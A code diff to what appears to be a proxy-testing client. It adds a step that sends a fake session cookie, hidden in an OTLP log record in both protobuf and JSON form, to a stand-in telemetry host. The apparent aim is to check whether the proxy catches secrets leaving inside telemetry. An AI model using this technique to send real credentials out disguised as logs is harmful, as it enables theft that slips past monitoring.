@@ -7,6 +7,8 @@ checks on. It reads the proxy variables and SSL_CERT_FILE itself, as a runtime d
     python all_hosts_client.py distrust  an HTTPS call through the proxy trusting no CA at all (the handshake fails)
     python all_hosts_client.py listening the addresses the proxy listens on, from /proc/net/tcp and tcp6
     python all_hosts_client.py ca        the modes of the CA's folder and of its files
+    python all_hosts_client.py otlp      an OTLP log export whose one record holds only its body, a Cookie line, to
+                                          another host: in protobuf, then the same in OTLP JSON
 
 Each outcome is printed as one line `NAME: what happened`.
 """
@@ -22,6 +24,8 @@ import urllib.parse
 import urllib.request
 
 TOKEN = "sk-proj-" + "Q7f2Lm9XwR4tYb8Kc3Vn6Hj1Pz5Ds0Ag"  # a made-up key, in the shape of a real one
+SESSION = "9f8e7d6c5b4a3928" + "1706f5e4d3c2b1a0"  # a made-up session cookie
+OTLP_LOGS = "https://telemetry.agent-example.test/v1/logs"
 
 
 def opener_for(url: str, context: ssl.SSLContext) -> urllib.request.OpenerDirector:
@@ -117,6 +121,23 @@ def ca_folder(_: ssl.SSLContext) -> None:
         print(f"ca file: {name} {os.stat(os.path.join(folder, name)).st_mode & 0o777:o}", flush=True)
 
 
+def length_delimited(number: int, value: bytes) -> bytes:
+    """One protobuf field of wire type 2 (lengths below 128 here: one byte each)."""
+    assert len(value) < 128
+    return bytes([number << 3 | 2, len(value)]) + value
+
+
+def otlp(context: ssl.SSLContext) -> None:
+    text = f"Cookie: sessionid={SESSION}"
+    # ExportLogsServiceRequest{resource_logs{scope_logs{log_records{body{string_value}}}}}: a record with its body
+    # only, whose bytes (`*4\n2Cookie: …`) are all printable.
+    record = length_delimited(5, length_delimited(1, text.encode()))
+    export = length_delimited(1, length_delimited(2, length_delimited(2, record)))
+    as_json = {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": text}}]}]}]}
+    for body, kind in ((export, "application/x-protobuf"), (json.dumps(as_json).encode(), "application/json")):
+        call(f"otlp {kind}", urllib.request.Request(OTLP_LOGS, body, {"content-type": kind}), context)
+
+
 def distrust(_: ssl.SSLContext) -> None:
     trusting_nobody = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # checks on, and no CA to check against
     call("distrust", urllib.request.Request("https://pinned.agent-example.test/config"), trusting_nobody)
@@ -125,6 +146,5 @@ def distrust(_: ssl.SSLContext) -> None:
 if __name__ == "__main__":
     context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
     for step in sys.argv[1:] or ["model"]:
-        {"model": model, "loopback": loopback, "distrust": distrust, "listening": listening, "ca": ca_folder}[step](
-            context
-        )
+        steps = {"model": model, "loopback": loopback, "distrust": distrust, "listening": listening, "ca": ca_folder}
+        (steps | {"otlp": otlp})[step](context)
